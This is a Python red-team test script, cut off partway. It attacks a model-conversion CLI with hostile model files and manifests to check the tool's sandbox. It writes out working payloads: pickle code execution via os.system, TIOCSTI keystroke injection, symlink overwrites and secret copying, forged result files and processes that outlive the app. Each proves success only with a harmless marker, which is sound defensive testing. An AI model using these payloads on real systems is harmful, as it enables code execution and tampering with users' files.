"""Attack round 3: a hostile model author against the fenced job and every command that reads a
model, a manifest or a result (issue 31), rebuilt fresh and reproducible; round 2
(``benchmarks/attack_channels.py``) is run too and reported beside it.

    python benchmarks/attack_round3.py [--repo PATH] [--python PY] [--json FILE] [--only FAMILY]
                                       [--skip-round2] [--list]

``--repo``: the checkout whose ``main.py`` is attacked (default: the one holding this script), run by
``--python`` (default ``/work/main/.venv/bin/python``, else this interpreter) with ``PYTHONPATH=REPO``.
The script itself needs only the standard library: model files are made by ``--python``.

Every payload proves success with a marker (a file created or changed, a token printed by code that
should not have run, bytes received on a socket this script owns, keystrokes waiting on a terminal
this script owns), never by doing harm. Everything runs inside one private run folder (``/tmp/atk3-*``,
removed at the end) with a private HOME, XDG_CONFIG_HOME, XDG_CACHE_HOME and TMPDIR per attempt; each
CLI starts in its own session, every process it starts carries an environment tag, this script is a
child subreaper (orphans come back to it), and at the end every tagged process is killed and the
sweep is verified (``processes left: 0``).

Outcome classes (an attempt is counted once, in the first class it hits in the order side effect,
hang, crash, leak, unclear error; totals are printed in the issue's order):

- **side effect**: something reached the user outside the fence or without their approval: a marker
  file made or a user's file changed or replaced (including through a link), a secret copied where
  it does not belong, code from a file run that no flag approved (its token printed), keystrokes
  waiting on the user's terminal after the CLI ended, bytes received on a socket outside the fence,
  terminal control characters (ESC, BEL, CSI, bidi overrides) on the CLI's stdout/stderr, a line
  on stderr that the job forged (not prefixed ``job:``).
- **leak**: the job got out of its bounds in time or size: a process of the attempt alive 3 s after
  the CLI ended (also after ``kill -9`` of the CLI), ``studio-*`` temporary folders left in TMPDIR
  after a normal exit (not after a hang this script killed), or a limit missing inside the fence (processes, file size, address space
  beyond what is free) or in the unfenced parent (its peak memory, extrapolated to the largest
  message or model it accepts, over 4 GiB).
- **hang**: the CLI still running at the attempt's bound (it is killed), or, with ``--timeout T``,
  ending more than ``T + 15`` s after it started.
- **crash**: the CLI ended by a signal this script did not send (SIGPIPE allowed where stdout is
  a closed pipe).
- **unclear error**: an exit code other than the attempt expects (0 success, 1 failed work, 2
  refused input), a Python traceback or "internal error" on stderr, a failure without exactly one
  ``error:`` line, or ``--json`` whose stdout is not exactly one JSON object.
- **clean**: none of these.

Families (``--list`` shows every attempt): keystrokes, pack, optimize, forged results, outliving the
app (with the fence's limits), socket, watchdog, terminal escapes, parent memory and blocking reads,
example, native crash, unclear errors; then round 2. Not here: the window rendering model text as
HTML (left to the UI tests). Figures that depend on the machine: the fork bomb spawns 2048
``sleep`` processes (killed at once), the sparse file is 1 TiB (no disk used), the result of empty
objects is ``--message-mb`` (48) MiB (at most what the decoder admits) and the ONNX of empty nodes ``--onnx-mb`` (16) MiB: each costs
today's CLI about 50x / 105x its size (``--onnx-mb 40``, the issue's, needs ~4.2 GiB free).

Totals are printed in the issue's words: "N side effects, N leaks, N hangs, N crashes, N unclear errors".
The exit status is 1 when anything hit, else 0.
"""

from __future__ import annotations

import argparse
import ctypes
import json
import os
import platform
import pty
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

HERE_REPO = Path(__file__).resolve().parents[1]
DEFAULT_PYTHON = "/work/main/.venv/bin/python"
CLASSES = ("side effect", "leak", "hang", "crash", "unclear error")      # the order, for totals
PRIORITY = ("side effect", "hang", "crash", "leak", "unclear error")     # an attempt is counted in the first it hits
PLURAL = {"side effect": "side effects", "leak": "leaks", "hang": "hangs", "crash": "crashes",
          "unclear error": "unclear errors"}
ESCAPES = ("\x1b", "\x07", "\x9b", "\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069")
TAG_VAR = "ATTACK3_TAG"
HOSTILE = "\x1b]0;PWNED-TITLE\x07\x1b[2J\u202eevil"   # a title, a cleared screen, a bidi override
PARENT_MEMORY_BUDGET = 4 << 30
VERBOSE = False


# ---------------------------------------------------------------------------- records
@dataclass
class Run:
    argv: list
    rc: int | None
    out: str
    err: str
    seconds: float
    hang: bool
    bound: float
    peak_kb: int | None = None
    killed_by_us: bool = False


@dataclass
class Outcome:
    family: str
    name: str
    findings: list = field(default_factory=list)      # (class, text)
    seconds: float = 0.0
    note: str = ""
    exit: int | None = None

    @property
    def cls(self) -> str:
        hit = {c for c, _ in self.findings}
        return next((c for c in PRIORITY if c in hit), "clean")


# ---------------------------------------------------------------------------- code that runs in the job
ARCH_HEAD = '''
import os, sys, socket, struct, time, glob, json
import torch


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 3)

    def forward(self, x):
        return self.lin(x)


def fds():
    for name in os.listdir("/proc/self/fd"):
        try:
            yield int(name), os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            pass


def pipes():
    return [fd for fd, what in fds() if fd > 2 and what.startswith(("pipe:", "socket:"))]


def frame(data):
    for fd in pipes():
        try:
            os.write(fd, struct.pack("!i", len(data)) + data)
        except OSError as e:
            print("frame refused", fd, e, flush=True)

'''

NET_PY = '''
import torch


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 3)

    def forward(self, x):
        return self.lin(x)


def build():
    return Net()
'''

# a full pickled module whose class (approved by --allow-pickle with --arch evilmods.py) runs code on load
EVILMODS = '''
import torch


class Evil(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 3)

    def forward(self, x):
        return self.lin(x)

    def __setstate__(self, state):
        print("PWNED-TOKEN", flush=True)
        super().__setstate__(state)


def build():
    return Evil()
'''

# made once per run by --python: the state dict, data, hostile pickles and ONNX files
SETUP_CODE = r'''
import json, os, sys
import numpy as np, torch, onnx
from onnx import helper, TensorProto
base = sys.argv[1]; hostile = json.loads(sys.argv[2]); token = sys.argv[3]; EVILMODS = sys.argv[4]
sys.path.insert(0, base)
import net
torch.manual_seed(0)
torch.save(net.Net().state_dict(), os.path.join(base, "model.pth"))
os.makedirs(os.path.join(base, "data"))
np.savez(os.path.join(base, "data", "data.npz"), x=np.random.default_rng(0).standard_normal((8, 4)).astype("float32"))

class Code:  # unpickled with no checks: runs os.system
    def __reduce__(self):
        return (os.system, ("echo PWNED-" + token,))
torch.save(Code(), os.path.join(base, "code.pt"))
open(os.path.join(base, "evilmods.py"), "w").write(EVILMODS.replace("TOKEN", token))
import evilmods
torch.save(evilmods.Evil(), os.path.join(base, "evil_module.pt"))

def onnx_model(op_type, domain, name):
    x = helper.make_tensor_value_info("x" + hostile, TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
    node = helper.make_node(op_type, ["x" + hostile], ["y"], name=hostile, domain=domain)
    graph = helper.make_graph([node], "graph" + hostile, [x], [y], doc_string=hostile)
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    model = helper.make_model(graph, opset_imports=opsets, producer_name="producer" + hostile,
                              producer_version=hostile, doc_string=hostile)
    model.metadata_props.add(key="k" + hostile, value=hostile)
    onnx.save(model, os.path.join(base, name))
onnx_model("Relu", "", "names.onnx")
onnx_model("Op" + hostile, "evil" + hostile, "optype.onnx")
from app.machine.hardware import detect_cpu
cpu = detect_cpu()
print(json.dumps({"cpu": cpu.name, "isa": cpu.features()}))
'''


def arch_file(folder: Path, payload: str, consts: dict) -> Path:
    """An architecture file whose ``build()`` runs ``payload`` first (inside the job)."""
    head = "".join(f"{k} = {v!r}\n" for k, v in consts.items())
    body = "\n".join("    " + line for line in payload.strip().splitlines())
    path = folder / "attack.py"
    path.write_text(ARCH_HEAD + head + "\n\ndef build():\n" + body + "\n    return Net()\n")
    return path


# ---------------------------------------------------------------------------- processes
_libc = ctypes.CDLL(None, use_errno=True)


def become_subreaper() -> None:
    with _suppress():
        _libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER


class _suppress:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return exc[0] is not None and issubclass(exc[0], Exception)


def _stat(pid: int) -> tuple[str, int] | None:
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            rest = f.read().rsplit(b")", 1)[1].split()
        return rest[0].decode(), int(rest[1])
    except (OSError, IndexError, ValueError):
        return None


def tagged(prefix: str) -> list[int]:
    """Live (not zombie) processes whose environment carries a tag starting with ``prefix``."""
    needle = f"{TAG_VAR}={prefix}".encode()
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open(f"/proc/{name}/environ", "rb") as f:
                env = f.read()
        except OSError:
            continue
        if needle in env:
            st = _stat(int(name))
            if st and st[0] not in ("Z", "X"):
                found.append(int(name))
    return found


def reap_orphans(active: set[int]) -> None:
    """Wait for zombies reparented to this subreaper (never a Popen child still being watched)."""
    me = os.getpid()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in active:
            st = _stat(int(name))
            if st and st[1] == me and st[0] == "Z":
                with _suppress():
                    os.waitpid(int(name), os.WNOHANG)


def cmdline(pid: int) -> str:
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:100]
    except OSError:
        return "?"


def kill_all(pids) -> None:
    for pid in pids:
        with _suppress():
            os.kill(pid, signal.SIGKILL)


def vm_hwm_kb(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        return None
    return None


# ---------------------------------------------------------------------------- the run
class Ctx:
    def __init__(self, repo: Path, python: str, root: Path, onnx_mb: int, message_mb: int):
        self.repo, self.python, self.root = repo, python, root
        self.run_id = uuid.uuid4().hex[:10]
        self.count = 0
        self.base = root / "base"
        self.base.mkdir()
        self.active: set[int] = set()
        self.onnx_mb, self.message_mb = onnx_mb, message_mb
        self.token = uuid.uuid4().hex[:8]
        self.machine: dict = {}
        self.baseline_kb: int | None = None
        self._pte: Path | None = None
        self._pte_tried = False
        self.last_killed = False     # the last CLI was killed by this script (hang): its folders may stay

    # -- folders and environment
    def attempt_dir(self) -> tuple[Path, str]:
        self.count += 1
        d = self.root / f"a{self.count:02d}"
        for sub in ("home", "config", "cache", "tmp"):
            (d / sub).mkdir(parents=True)
        return d, f"{self.run_id}-{self.count:02d}"

    def env(self, d: Path, tag: str, extra: dict | None = None) -> dict:
        env = {k: v for k, v in os.environ.items()
               if k not in ("PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV") and not k.startswith("DEPLOYSTUDIO_")}
        env.update(HOME=str(d / "home"), XDG_CONFIG_HOME=str(d / "config"), XDG_CACHE_HOME=str(d / "cache"),
                   XDG_DATA_HOME=str(d / "home" / "data"), XDG_STATE_HOME=str(d / "home" / "state"),
                   TMPDIR=str(d / "tmp"), PYTHONPATH=str(self.repo), QT_QPA_PLATFORM="offscreen",
                   PYTHONDONTWRITEBYTECODE="1", TERM="xterm", **{TAG_VAR: tag})
        env.update(extra or {})
        return env

    # -- running the CLI
    def cli(self, d: Path, tag: str, args: list, *, bound: float = 120, env_extra: dict | None = None,
            on_err_line: Callable[[str, subprocess.Popen], bool] | None = None,
            closed_stdout: bool = False) -> Run:
        argv = [self.python, str(self.repo / "main.py"), *map(str, args)]
        env = self.env(d, tag, env_extra)
        if closed_stdout:
            r, w = os.pipe()
            os.close(r)
            stdout = w
        else:
            stdout = subprocess.PIPE
        started = time.monotonic()
        proc = subprocess.Popen(argv, cwd=d, env=env, stdin=subprocess.DEVNULL, stdout=stdout,
                                stderr=subprocess.PIPE, start_new_session=True)
        if closed_stdout:
            os.close(w)
        self.active.add(proc.pid)
        out_buf, err_buf, killed = [], [], threading.Event()

        def pump(stream, buf, lines: bool):
            pending = b""
            for chunk in iter(lambda: stream.read1(65536), b""):
                buf.append(chunk)
                if lines and on_err_line and not killed.is_set():
                    pending += chunk
                    *done, pending = pending.split(b"\n")
                    for line in done:
                        if on_err_line(line.decode(errors="replace"), proc):
                            killed.set()

        threads = [threading.Thread(target=pump, args=(proc.stderr, err_buf, True), daemon=True)]
        if proc.stdout is not None:
            threads.append(threading.Thread(target=pump, args=(proc.stdout, out_buf, False), daemon=True))
        for t in threads:
            t.start()
        peak, hang = None, False
        while proc.poll() is None:
            peak = vm_hwm_kb(proc.pid) or peak
            if time.monotonic() - started > bound:
                hang = True
                with _suppress():
                    os.killpg(proc.pid, signal.SIGKILL)
                proc.kill()
                proc.wait()
                break
            time.sleep(0.05)
        seconds = time.monotonic() - started
        for t in threads:
            t.join(5)
        self.active.discard(proc.pid)
        self.last_killed = hang or killed.is_set()
        if VERBOSE:
            print("    | " + b"".join(err_buf).decode(errors="replace")[-1500:].replace("\n", "\n    | "))
        return Run(argv, proc.returncode, b"".join(out_buf).decode(errors="replace"),
                   b"".join(err_buf).decode(errors="replace"), seconds, hang, bound, peak, killed.is_set())

    def leaks(self, d: Path, tag: str, *, tmp: bool = True, grace: float = 3.0) -> list:
        tmp = tmp and not self.last_killed
        """Processes of the attempt alive ``grace`` s after the CLI ended; temporary folders left."""
        found = []
        deadline = time.monotonic() + grace
        alive = tagged(tag)
        while alive and time.monotonic() < deadline:
            time.sleep(0.1)
            reap_orphans(self.active)
            alive = tagged(tag)
        if alive:
            found.append(("leak", f"{len(alive)} process(es) alive after the CLI ended: "
                                  + "; ".join(f"{p} {cmdline(p)}" for p in alive[:3])))
            kill_all(alive)
        reap_orphans(self.active)
        left = sorted(p.name for p in (d / "tmp").iterdir() if p.name.startswith("studio-")) if tmp else []
        if left:
            found.append(("leak", f"left in TMPDIR: {', '.join(left[:4])}"))
        return found

    def sweep(self) -> list[int]:
        """Kill every process of this run; the ones that were still there."""
        left = tagged(self.run_id)
        kill_all(left)
        time.sleep(0.2)
        reap_orphans(set())
        return left

    # -- fixtures
    def setup(self) -> None:
        (self.base / "net.py").write_text(NET_PY)
        r = subprocess.run([self.python, "-c", SETUP_CODE, str(self.base), json.dumps(HOSTILE), self.token, EVILMODS],
                           env=self.env(self.root, "setup") | {"PYTHONPATH": str(self.repo)}, cwd=self.base,
                           capture_output=True, timeout=300, text=True)
        if r.returncode != 0:
            raise SystemExit(f"setup failed: {r.stderr[-2000:]}")
        self.machine = json.loads(r.stdout.strip().splitlines()[-1])
        d, tag = self.attempt_dir()
        run = self.cli(d, tag, ["convert", self.base / "model.pth", "--arch", f"{self.base / 'net.py'}:build",
                                "--input", "x:1x4", "--to", "onnx", "--out", self.base / "onnx"], bound=180)
        if run.rc != 0:
            raise SystemExit(f"setup: the clean ONNX conversion failed ({run.rc}): {run.err[-2000:]}")
        run = self.cli(d, tag, ["inspect", self.base / "model.pth", "--arch", f"{self.base / 'net.py'}:build",
                                "--input", "x:1x4"], bound=120)
        self.baseline_kb = run.peak_kb
        kill_all(tagged(tag))

    def pte(self) -> Path | None:
        """A small ExecuTorch program (made once), or None where the export is not available."""
        if not self._pte_tried:
            self._pte_tried = True
            d, tag = self.attempt_dir()
            run = self.cli(d, tag, ["convert", self.base / "model.pth", "--arch", f"{self.base / 'net.py'}:build",
                                    "--input", "x:1x4", "--to", "executorch", "--out", self.base / "pte"], bound=240)
            found = sorted((self.base / "pte").glob("*.pte")) if run.rc == 0 else []
            self._pte = found[0] if found else None
            kill_all(tagged(tag))
        return self._pte

    def onnx_artifact(self, d: Path, manifest_edit: Callable[[dict], None] | None = None) -> Path:
        """A copy of the clean ONNX artifact and its manifest in ``d/art`` (the manifest edited)."""
        art = d / "art"
        art.mkdir()
        src = self.base / "onnx" / "model.fp32.onnx"
        shutil.copy(src, art / src.name)
        manifest = json.loads((self.base / "onnx" / "model.fp32.onnx.manifest.json").read_text())
        manifest["options"]["arch"] = f"{self.base / 'net.py'}:build"
        if manifest_edit:
            manifest_edit(manifest)
        (art / "model.fp32.onnx.manifest.json").write_text(json.dumps(manifest))
        return art / src.name

    def model_args(self, arch: Path | None = None) -> list:
        return [self.base / "model.pth", "--arch", f"{arch or self.base / 'net.py'}:build", "--input", "x:1x4"]


# ---------------------------------------------------------------------------- judging
def judge(run: Run, *, expect=(0, 1, 2), json_mode: bool = False, escapes: bool = False,
          allow_signals: tuple = (), timeout: float | None = None) -> list:
    found = []
    if run.hang:
        found.append(("hang", f"still running after {run.bound:g} s; killed"))
    elif timeout is not None and run.seconds > timeout + 15:
        found.append(("hang", f"ended after {run.seconds:.0f} s with --timeout {timeout:g}"))
    if run.rc is not None and run.rc < 0 and not run.hang and not run.killed_by_us and -run.rc not in allow_signals:
        found.append(("crash", f"the CLI was killed by signal {-run.rc}"))
    if escapes:
        hits = sorted({repr(c) for c in ESCAPES if c in run.out + run.err})
        if hits:
            found.append(("side effect", f"control characters reached the terminal: {', '.join(hits)}"))
    if run.hang or run.killed_by_us or (run.rc is not None and run.rc < 0):
        return found
    if "Traceback (most recent call last)" in run.err:
        found.append(("unclear error", "a traceback: " + _last_line(run.err)))
    elif "internal error" in run.err.lower():
        found.append(("unclear error", "internal error: " + _grep(run.err, "internal error")))
    if run.rc not in expect:
        found.append(("unclear error", f"exit {run.rc} (expected {'/'.join(map(str, expect))})"))
    if run.rc not in (0, None):
        n = sum(line.startswith("error:") for line in run.err.splitlines())
        if n != 1:
            found.append(("unclear error", f"{n} 'error:' lines on a failure"))
    if json_mode:
        try:
            ok = isinstance(json.loads(run.out), dict)
        except ValueError:
            ok = False
        if not ok:
            found.append(("unclear error", f"--json stdout is not exactly one JSON object ({run.out[:60]!r})"))
    return found


def _last_line(text: str) -> str:
    lines = [ln for ln in text.strip().splitlines() if ln.strip()]
    return lines[-1][:160] if lines else ""


def _grep(text: str, word: str) -> str:
    return next((ln[:160] for ln in text.splitlines() if word in ln.lower()), "")


def message(run: Run) -> str:
    err = [ln for ln in run.err.splitlines() if ln.startswith("error:")]
    return (err[-1] if err else _last_line(run.err) or _last_line(run.out))[:140]


def job_printed(run: Run, token: str) -> bool:
    return token in run.out or token in run.err


# ---------------------------------------------------------------------------- families
ATTEMPTS: list[tuple[str, str, Callable[[Ctx], Outcome]]] = []


def attempt(family: str, name: str):
    def register(fn):
        ATTEMPTS.append((family, name, fn))
        return fn
    return register


def families() -> list[str]:
    return list(dict.fromkeys(f for f, _, _ in ATTEMPTS))


# ---- keystrokes into the user's shell
TIOCSTI_PAYLOAD = '''
import fcntl, termios
cmd = ("touch " + MARKER + "\\n").encode()
targets = []
for mode in (os.O_RDONLY, os.O_RDWR, os.O_WRONLY):
    try:
        targets.append(os.open("/dev/tty", mode | os.O_NOCTTY))
    except OSError as e:
        print("no /dev/tty:", e, flush=True)
for fd in targets + [0, 1, 2]:
    try:
        for c in cmd:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        print("INJECTED through", fd, flush=True)
        break
    except OSError as e:
        print("TIOCSTI refused on", fd, e, flush=True)
'''


def run_in_pty(ctx: Ctx, d: Path, tag: str, args: list, bound: float = 120) -> tuple[Run, str]:
    """The CLI in a terminal this script owns (its controlling terminal, in a new session), under a
    shell that, once the CLI has ended, reads one line of what is waiting on the terminal."""
    master, slave = pty.openpty()
    script = '"$@"; echo "$?" > rc.txt; if read -t 2 line; then printf "%s\\n" "$line" > got.txt; fi'
    argv = ["bash", "-c", script, "sh", ctx.python, str(ctx.repo / "main.py"), *map(str, args)]

    def controlling_tty():
        os.setsid()
        import fcntl
        import termios
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    started = time.monotonic()
    proc = subprocess.Popen(argv, cwd=d, env=ctx.env(d, tag), stdin=slave, stdout=slave, stderr=slave,
                            preexec_fn=controlling_tty, close_fds=True)
    os.close(slave)
    ctx.active.add(proc.pid)
    screen = []

    def pump():
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:
                break
            if not chunk:
                break
            screen.append(chunk)

    t = threading.Thread(target=pump, daemon=True)
    t.start()
    hang = False
    try:
        proc.wait(bound)
    except subprocess.TimeoutExpired:
        hang = True
        with _suppress():
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    t.join(3)
    os.close(master)
    ctx.active.discard(proc.pid)
    ctx.last_killed = hang
    rc_file = d / "rc.txt"
    rc = int(rc_file.read_text().strip()) if rc_file.exists() and rc_file.read_text().strip().isdigit() else None
    if rc is not None and rc > 128:
        rc = -(rc - 128)
    got = (d / "got.txt").read_text() if (d / "got.txt").exists() else ""
    text = b"".join(screen).decode(errors="replace")
    if VERBOSE:
        print("    | " + text[-1500:].replace("\n", "\n    | ") + f"\n    | got: {got!r}")
    return Run(argv, rc, "", text, time.monotonic() - started, hang, bound), got


def keystroke_findings(run: Run, got: str, marker: Path) -> list:
    found = judge(run)
    found = [f for f in found if f[0] != "unclear error" or "error:" not in f[1]]  # a terminal mixes the streams
    if got.strip():
        found.insert(0, ("side effect", f"keystrokes waiting on the terminal after the CLI ended: {got.strip()[:80]!r}"))
    if marker.exists():
        found.insert(0, ("side effect", "marker written"))
    return found


@attempt("keystrokes", "TIOCSTI on /dev/tty and fds 0-2 (inspect --arch)")
def _keys_inspect(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    marker = d / "marker-keys"
    arch = arch_file(d, TIOCSTI_PAYLOAD, {"MARKER": str(marker)})
    run, got = run_in_pty(ctx, d, tag, ["inspect", *ctx.model_args(arch)])
    return Outcome("", "", keystroke_findings(run, got, marker) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("keystrokes", "TIOCSTI from pack (the arch named by the manifest, no flag)")
def _keys_pack(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    marker = d / "marker-keys"
    arch = arch_file(d, TIOCSTI_PAYLOAD, {"MARKER": str(marker)})
    artifact = ctx.onnx_artifact(d, lambda m: m["options"].update(arch=f"{arch}:build"))
    run, got = run_in_pty(ctx, d, tag, ["pack", artifact, "--out", d / "pack", "--samples", "4"])
    return Outcome("", "", keystroke_findings(run, got, marker) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


# ---- pack takes its trust from the manifest
def _pack(ctx: Ctx, d: Path, tag: str, artifact: Path, *extra) -> Run:
    return ctx.cli(d, tag, ["pack", artifact, "--out", d / "pack", "--samples", "4", *extra], bound=150)


def _code_ran(ctx: Ctx, run: Run) -> list:
    return [("side effect", "code from the source file ran with no flag (its token was printed)")] \
        if job_printed(run, f"PWNED-{ctx.token}") else []


@attempt("pack", "manifest turns on run_code_from_file (pickle's code)")
def _pack_unsafe(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()

    def edit(m):
        m["source"].update(path=str(ctx.base / "code.pt"), format="pickle")
        m["options"].update(run_code_from_file=True, allow_pickle=True)
    run = _pack(ctx, d, tag, ctx.onnx_artifact(d, edit))
    return Outcome("", "", _code_ran(ctx, run) + judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("pack", "manifest turns on allow_pickle (a module class that runs code)")
def _pack_allow(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()

    def edit(m):
        m["source"].update(path=str(ctx.base / "evil_module.pt"), format="pickle")
        m["options"].update(allow_pickle=True, arch=f"{ctx.base / 'evilmods.py'}:build")
    run = _pack(ctx, d, tag, ctx.onnx_artifact(d, edit))
    return Outcome("", "", _code_ran(ctx, run) + judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("pack", "manifest names os:system as the architecture")
def _pack_os_system(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()

    def edit(m):
        m["options"].update(arch="os:system", arch_kwargs={"command": f"echo PWNED-{ctx.token}"})
    run = _pack(ctx, d, tag, ctx.onnx_artifact(d, edit))
    return Outcome("", "", _code_ran(ctx, run) + judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("pack", "the job rewrites check.py in the pack folder")
def _pack_checkpy(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    marker = d / "marker-check"
    payload = f'''
for _ in range(2):
    try:
        open(OUT + "/check.py", "w").write("open({str(marker)!r}, 'w')\\n")
        print("check.py replaced", flush=True)
    except OSError as e:
        print("check.py refused", e, flush=True)
'''
    arch = arch_file(d, payload, {"OUT": str(d / "pack")})
    artifact = ctx.onnx_artifact(d, lambda m: m["options"].update(arch=f"{arch}:build"))
    run = _pack(ctx, d, tag, artifact)
    found = []
    check = d / "pack" / "check.py"
    original = (ctx.repo / "resources" / "pack_check.py").read_bytes()
    if check.exists() and check.read_bytes() != original:
        found.append(("side effect", "check.py in the pack is the job's, not the app's"))
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("pack", "pack --overwrite through a check.py that is a link")
def _pack_link(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    victim = d / "victim.txt"
    victim.write_text("the user's file\n")
    (d / "pack").mkdir()
    (d / "pack" / "check.py").symlink_to(victim)
    run = _pack(ctx, d, tag, ctx.onnx_artifact(d), "--overwrite")
    found = [("side effect", "a file outside the pack was written through check.py")] \
        if victim.read_text() != "the user's file\n" else []
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("pack", "a side file that is a link to a secret")
def _pack_secret(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    secret = d / "secret.txt"
    secret.write_text(f"SECRET-{ctx.token}\n")

    def edit(m):
        m["files"] = [{"name": "model.fp32.onnx"}, {"name": "model.weights"}]
    artifact = ctx.onnx_artifact(d, edit)
    (artifact.parent / "model.weights").symlink_to(secret)
    run = _pack(ctx, d, tag, artifact)
    copied = d / "pack" / "model.weights"
    found = [("side effect", "the secret behind the link was copied into the pack")] \
        if copied.exists() and not copied.is_symlink() and f"SECRET-{ctx.token}" in copied.read_text() else []
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


# ---- optimize writes beside the model
@attempt("optimize", "the model's code writes beside the model file")
def _optimize_beside(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    models = d / "models"
    models.mkdir()
    shutil.copy(ctx.base / "model.pth", models / "model.pth")
    train = models / "train.py"
    train.write_text("# the user's training script\n")
    payload = '''
for name in ("train.py", "beside.txt"):
    try:
        open(MODELS + "/" + name, "w").write("PWNED\\n")
        print("wrote", name, flush=True)
    except OSError as e:
        print("refused", name, e, flush=True)
os._exit(0)
'''
    arch = arch_file(d, payload, {"MODELS": str(models)})
    run = ctx.cli(d, tag, ["optimize", models / "model.pth", "--arch", f"{arch}:build", "--input", "x:1x4",
                           "--only", "onnx", "--runs", "3", "--timeout", "90"], bound=150)
    found = []
    if train.read_text() != "# the user's training script\n":
        found.append(("side effect", "train.py beside the model was overwritten"))
    if (models / "beside.txt").exists():
        found.append(("side effect", "a file was made beside the model"))
    return Outcome("", "", found + judge(run, timeout=90) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


# ---- forged results place files of any name
FORGE_PAYLOAD = '''
from pathlib import Path
from app.safety import wire
from app.pipeline import ConversionResult
work = Path([p for p in glob.glob(OUT + "/*") + glob.glob(OUT + "/.*") if os.path.isdir(p)][0])
for name in (NAME, "model.fp32.onnx.manifest.json"):
    try:
        (work / os.path.basename(name)).write_text("PWNED = True\\n" if name == NAME else "{}")
    except OSError as e:
        print("refused", name, e, flush=True)
named = work / NAME
result = ConversionResult(target="onnx", precision="fp32", status="ok", artifact=named, files=[named],
                          manifest=work / "model.fp32.onnx.manifest.json")
frame(wire.dumps(("result", result)))
os._exit(0)
'''


def _forged(ctx: Ctx, name: str, *, beside: bool) -> Outcome:
    d, tag = ctx.attempt_dir()
    models = d / "models"
    models.mkdir()
    shutil.copy(ctx.base / "model.pth", models / "model.pth")
    train = models / "train.py"
    train.write_text("# the user's training script\n")
    out = models if beside else d / "out"
    arch = arch_file(d, FORGE_PAYLOAD, {"OUT": str(out), "NAME": name})
    args = ["convert", models / "model.pth", "--arch", f"{arch}:build", "--input", "x:1x4", "--to", "onnx"]
    args += ["--overwrite"] if beside else ["--out", out]
    run = ctx.cli(d, tag, args, bound=120)
    found = []
    if train.read_text() != "# the user's training script\n":
        found.append(("side effect", "the user's train.py beside the model was replaced"))
    if (out / "conftest.py").exists():
        found.append(("side effect", "conftest.py placed in the output folder"))
    return Outcome("", "", found + judge(run) + ctx.leaks(d, tag), run.seconds, message(run), run.rc)


@attempt("forged results", "a result naming conftest.py")
def _forged_conftest(ctx: Ctx) -> Outcome:
    return _forged(ctx, "conftest.py", beside=False)


@attempt("forged results", "a result naming train.py (output beside the model, --overwrite)")
def _forged_train(ctx: Ctx) -> Outcome:
    return _forged(ctx, "train.py", beside=True)


@attempt("forged results", "a result naming ../train.py (--overwrite)")
def _forged_dotdot(ctx: Ctx) -> Outcome:
    return _forged(ctx, "../train.py", beside=False)


# ---- jobs outlive the app; limits inside the fence
GRANDCHILD = '''
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
    except OSError as e:  # refused by the fence: stay, in the job's group, and try to outlive it anyway
        print("SETSID-REFUSED", e, flush=True)
    if os.fork():
        os._exit(0)
    print("GRANDCHILD", os.getpid(), flush=True)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in [0, 1, 2] + pipes():
        os.dup2(null, fd)
    time.sleep(60)
    os._exit(0)
os.waitpid(pid, 0)
time.sleep(0.3)
'''


@attempt("outliving the app", "a setsid grandchild after a normal exit")
def _grandchild_exit(ctx: Ctx) -> Outcome:
    d, tag = ctx.attempt_dir()
    run = ctx.cli(d, tag, ["inspect", *ctx.model_args(arch_file(d, GRANDCHILD, {}))], bound=120)
    return Outcome("", "", ctx.leaks(d, tag) + judge(run, expect=(0,)), run.seconds, message(run), run.rc)


@attempt("outliving the app", "a setsid grandchild after kill -9 of the CLI")
